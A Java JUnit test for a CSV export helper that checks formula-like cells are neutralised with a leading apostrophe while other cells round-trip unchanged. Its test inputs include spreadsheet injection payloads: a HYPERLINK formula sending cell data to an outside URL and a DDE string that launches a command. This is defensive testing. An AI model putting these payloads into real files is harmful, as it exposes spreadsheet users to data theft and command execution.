package vn.minhbach.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a spreadsheet makes of the export. */
class CsvTest {

    private static String row(String... cells) throws IOException {
        var out = new StringBuilder();
        Csv.row(out, List.of(cells));
        return out.toString();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"=HYPERLINK(\"http://x.vn/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"})
    void nothingIsComputed(String given) throws IOException {
        try (var parsed = CSVFormat.DEFAULT.parse(new StringReader(row(given)))) {
            assertThat(parsed.getRecords().getFirst().get(0)).isEqualTo("'" + given);
        }
    }

    @Test
    void everythingElseComesBackAsItWas() throws IOException {
        var cells = new String[] {"lan, mai", "“ngoặc” \"kép\"", "hai\ndòng", "", "a=b", "01/06/2026"};
        try (var parsed = CSVFormat.DEFAULT.parse(new StringReader(row(cells)))) {
            assertThat(parsed.getRecords().getFirst().toList()).containsExactly(cells);
        }
    }
}
